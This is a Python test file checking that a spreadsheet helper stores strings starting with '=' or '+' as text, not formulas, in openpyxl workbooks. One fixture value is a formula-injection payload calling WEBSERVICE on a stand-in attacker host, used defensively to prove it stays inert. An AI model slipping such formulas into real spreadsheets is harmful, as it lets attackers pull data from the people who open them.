"""Workbooks written for people: a string is text, never a formula."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from kechuang import spreadsheets


@pytest.mark.parametrize("write_only", [True, False])
def test_a_string_starting_with_equals_is_kept_as_text(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("s") if write_only else wb.active
    spreadsheets.append(ws, ['=WEBSERVICE("http://evil.example/")', "+1", 7, None])
    out = io.BytesIO()
    wb.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue()))["s" if write_only else ws.title]
    row = next(sheet.iter_rows())
    assert [c.value for c in row[:3]] == ['=WEBSERVICE("http://evil.example/")', "+1", 7]
    assert [c.data_type for c in row[:3]] == ["s", "s", "n"]
